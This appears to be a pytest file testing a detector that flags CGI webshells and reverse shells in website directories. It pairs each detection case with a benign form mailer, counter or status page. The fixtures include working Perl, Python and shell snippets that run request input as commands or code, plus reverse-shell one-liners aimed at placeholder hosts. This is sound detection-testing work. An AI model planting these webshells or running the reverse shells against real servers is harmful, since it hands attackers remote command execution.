"""CGI shells in Perl, Python and shell (cgi.py): request input followed to a command or to code.

Each snippet is written for this test after the technique it names (a hand-written form parser feeding a pipe
open, CGI.pm input run through a local helper, FieldStorage into os.popen, QUERY_STRING as a shell's command
word, a socket wired to /bin/sh); each has a benign look-alike from ordinary CGI tools (a form mailer piping
to sendmail with fixed arguments, a stats page, a counter) that must stay under the threshold. Names are
made up and nothing here runs.
"""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, cgi, php

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS


def signals(source: str, lang: str, name: str = "cgi-bin/x") -> dict:
    ev = php.Evidence()
    cgi.score_script(name, source, lang, ev)
    return ev.found


def verdict(name: str, source: str):
    return analyse.analyse(name, source.encode("latin-1"), php.THRESHOLD, UPLOADS)


def flagged(name: str, source: str) -> bool:
    found = verdict(name, source)
    return bool(found and found.get("kind"))


# --- Perl ------------------------------------------------------------------------------------------------------

PERL_FORM_PARSER_TO_PIPE = """#!/usr/bin/perl
print "Content-type: text/html\\n\\n";
&parse_form();
open(OUT, "cd $field{where} && $field{what} |");
while (<OUT>) { print; }

sub parse_form {
    $raw = $ENV{'QUERY_STRING'};
    @parts = split(/&/, $raw);
    foreach $part (@parts) {
        ($k, $v) = split(/=/, $part);
        $v =~ s/%(..)/pack("C", hex($1))/eg;
        $field{$k} = $v;
    }
}
"""

PERL_CGI_PM_THROUGH_HELPER = """#!/usr/bin/perl -w
use strict;
use CGI;
my $q = CGI->new;
sub field { my ($name) = @_; return $q->param($name); }
sub runit { my ($line) = @_; return `$line 2>&1`; }
my $todo = field('t');
print $q->header, runit($todo);
"""

PERL_CGI_LIB_EVAL = """#!/usr/local/bin/perl
require "cgi-lib.pl";
&ReadParse;
print &PrintHeader;
eval($in{'code'});
"""

# A form mailer: reads every field, pipes the message to sendmail with fixed arguments.
PERL_FORM_MAILER = """#!/usr/bin/perl
read(STDIN, $buffer, $ENV{'CONTENT_LENGTH'});
@pairs = split(/&/, $buffer);
foreach $pair (@pairs) {
    ($name, $value) = split(/=/, $pair);
    $value =~ tr/+/ /;
    $FORM{$name} = $value;
}
open(MAIL, "|/usr/sbin/sendmail -t") || die "no sendmail";
print MAIL "To: webmaster\\@example.org\\nSubject: $FORM{'subject'}\\n\\n$FORM{'message'}\\n";
close(MAIL);
print "Content-type: text/html\\n\\n<p>Thank you.</p>";
"""

# A log statistics page: request input as an argument of a program the script names, never as the command.
PERL_STATS_PAGE = """#!/usr/bin/perl
use CGI qw(param header);
my $day = param('day');
$day =~ s/[^0-9-]//g;
print header();
my @hits = `/usr/bin/grep -c "$day" /var/log/site/access.log`;
print "<p>Hits on $day: @hits</p>";
"""


def test_hand_written_form_parser_into_a_pipe_open_and_a_form_mailer():
    found = signals(PERL_FORM_PARSER_TO_PIPE, "perl")
    assert found.get("input_to_command") == 12
    assert flagged("cgi-bin/go.cgi", PERL_FORM_PARSER_TO_PIPE)
    found = signals(PERL_FORM_MAILER, "perl")
    assert "input_to_command" not in found
    assert not flagged("cgi-bin/formmail.pl", PERL_FORM_MAILER)


def test_cgi_pm_input_through_local_functions_into_backticks():
    found = signals(PERL_CGI_PM_THROUGH_HELPER, "perl")
    assert found.get("input_to_command") == 12
    assert flagged("cgi-bin/t.pl", PERL_CGI_PM_THROUGH_HELPER)


def test_cgi_lib_field_evaluated_as_perl():
    assert signals(PERL_CGI_LIB_EVAL, "perl").get("input_to_code") == 12
    assert flagged("cgi-bin/e.cgi", PERL_CGI_LIB_EVAL)


def test_input_as_argument_of_a_named_program_is_not_a_shell():
    found = signals(PERL_STATS_PAGE, "perl")
    assert "input_to_command" not in found
    assert found.get("input_to_command_argument") == 4
    assert not flagged("cgi-bin/stats.pl", PERL_STATS_PAGE)


def test_perl_shell_saved_under_a_php_name_is_scored_as_perl():
    found = verdict("site/images/go.php", PERL_FORM_PARSER_TO_PIPE)
    assert found["kind"] == "webshell"
    assert "input_to_command" in found["signals"]
    assert "script_under_other_name" in found["signals"]
    # A PHP file is still scored as PHP: its #! line names php, not perl.
    assert "input_to_command" not in verdict("site/cli.php", "#!/usr/bin/env php\n<?php echo 'ok';")["signals"]


def test_here_documents_and_single_quoted_text_are_not_commands():
    page = PERL_CGI_PM_THROUGH_HELPER.split("sub runit")[0] + "my $todo = field('t');\nprint <<END;\n" \
        "<p>Run `$todo` yourself</p>\nEND\nprint 'eval $todo';\n"
    found = signals(page, "perl")
    assert "input_to_command" not in found and "input_to_code" not in found


# --- Python ----------------------------------------------------------------------------------------------------

PY_FIELDSTORAGE_TO_POPEN = """#!/usr/bin/env python3
import cgi, os
form = cgi.FieldStorage()
line = form.getvalue("q", "id")
print("Content-Type: text/plain\\n")
print(os.popen(line).read())
"""

PY_ENVIRON_TO_EXEC = """#!/usr/bin/python
import os, urllib.parse
args = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
print("Content-Type: text/plain\\n")
exec(args["c"][0])
"""

# A counter: reads a field, calls a program with fixed arguments, writes its own file.
PY_COUNTER = """#!/usr/bin/env python3
import cgi, subprocess
form = cgi.FieldStorage()
page = form.getfirst("page", "index")
count = subprocess.check_output(["/usr/bin/wc", "-l", "/var/lib/counter/hits"]).split()[0]
print("Content-Type: text/html\\n")
print("<p>%s: %s visits</p>" % (cgi.escape(page), count.decode()))
"""


def test_python_fieldstorage_into_popen_and_query_string_into_exec():
    assert signals(PY_FIELDSTORAGE_TO_POPEN, "python").get("input_to_command") == 12
    assert flagged("cgi-bin/q.py", PY_FIELDSTORAGE_TO_POPEN)
    assert signals(PY_ENVIRON_TO_EXEC, "python").get("input_to_code") == 12
    assert flagged("cgi-bin/x.py", PY_ENVIRON_TO_EXEC)
    found = signals(PY_COUNTER, "python")
    assert "input_to_command" not in found
    assert not flagged("cgi-bin/counter.py", PY_COUNTER)


# --- shell -----------------------------------------------------------------------------------------------------

SH_QUERY_AS_COMMAND = """#!/bin/sh
echo "Content-type: text/plain"
echo
todo=$(echo "$QUERY_STRING" | sed 's/+/ /g; s/%20/ /g')
$todo 2>&1
"""

SH_BODY_TO_EVAL = """#!/bin/bash
echo "Content-type: text/plain"; echo
if [ "$REQUEST_METHOD" = POST ]; then
  read -n "$CONTENT_LENGTH" body
  eval "${body#*=}"
fi
"""

# A status page: the query picks a report name handed to a fixed program.
SH_STATUS_PAGE = """#!/bin/sh
echo "Content-type: text/plain"
echo
report=$(echo "$QUERY_STRING" | tr -cd 'a-z')
/usr/local/bin/site-report --name "$report"
uptime
"""


def test_query_string_as_the_command_word_and_a_body_evaluated():
    assert signals(SH_QUERY_AS_COMMAND, "shell").get("input_to_command") == 12
    assert flagged("cgi-bin/run.sh", SH_QUERY_AS_COMMAND)
    assert signals(SH_BODY_TO_EVAL, "shell").get("input_to_command") == 12
    assert flagged("cgi-bin/post.cgi", SH_BODY_TO_EVAL)
    found = signals(SH_STATUS_PAGE, "shell")
    assert "input_to_command" not in found
    assert not flagged("cgi-bin/status.sh", SH_STATUS_PAGE)


# --- reverse and bind shells -----------------------------------------------------------------------------------

REVERSE = [
    ("perl", "x.pl", "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
     "connect(S, sockaddr_in($port, inet_aton($host)));\nopen(STDIN, '>&S'); open(STDOUT, '>&S');\n"
     "exec('/bin/sh -i');\n"),
    ("python", "x.py", "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
     "s.connect((host, port))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n"),
    ("shell", "x.sh", "#!/bin/bash\nbash -i >& /dev/tcp/$host/$port 0>&1\n"),
]
# Network code that is not a shell: a client that talks to a server and runs nothing.
NETWORK_CLIENTS = [
    ("perl", "x.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => $host);\n"
     "print $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nopen(STDOUT, '>&', $log);\nsystem('/bin/date');\n"),
    ("python", "x.py", "import socket, os\ns = socket.socket()\ns.connect((host, 80))\n"
     "os.dup2(log.fileno(), 2)\nsubprocess.call(['/bin/ls', '-l'])\n"),
    ("shell", "x.sh", "#!/bin/sh\nexec 3<>/dev/tcp/$host/80\necho 'GET /' >&3\n"),
]


@pytest.mark.parametrize("lang,name,source", REVERSE)
def test_reverse_shells(lang, name, source):
    assert signals(source, lang).get("reverse_shell") == 12
    assert flagged("site/" + name, source)


@pytest.mark.parametrize("lang,name,source", NETWORK_CLIENTS)
def test_network_clients_are_not_reverse_shells(lang, name, source):
    assert "reverse_shell" not in signals(source, lang)
    assert not flagged("site/" + name, source)


# --- routing ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("first_line,lang", [
    (b"#!/usr/bin/perl -w\n", "perl"), (b"#!C:\\Perl\\bin\\perl.exe\r\n", "perl"), (b"#!/usr/bin/env python3\n", "python"),
    (b"#! /bin/bash\n", "shell"), (b"#!/usr/bin/env -S perl -T\n", "perl"), (b"#!/usr/bin/env php\n", None),
    (b"<?php\n", None),
])
def test_interpreter_from_the_first_line(first_line, lang):
    assert cgi.interpreter(first_line + b"print 1;\n") == lang


def test_script_extensions_are_their_own_kind():
    assert [analyse.kind_of_name(n) for n in ("a.pl", "b.cgi", "c.py", "d.sh", "e.pm", "f.rb", "g.txt")] == \
        ["script", "script", "script", "script", "script", "data", "data"]
